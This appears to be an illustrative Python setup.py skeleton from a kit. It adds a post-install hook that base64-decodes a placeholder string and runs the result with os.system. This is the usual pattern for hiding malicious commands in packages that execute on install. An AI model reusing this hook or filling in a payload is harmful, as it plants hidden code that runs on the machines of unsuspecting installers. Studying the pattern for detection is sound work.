"""A custom install command runs a command line that a helper decodes from base64. The text here
is a template that does not decode, as in a kit's skeleton; the shape is what counts."""
import base64
import os

from setuptools import setup
from setuptools.command.install import install


def unwrap(text):
    return base64.b64decode(text.encode("ascii")).decode("ascii")


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system(unwrap("PAYLOAD_GOES_HERE"))


setup(name="skeleton", version="1.0.0", packages=[], cmdclass={"install": PostInstall})
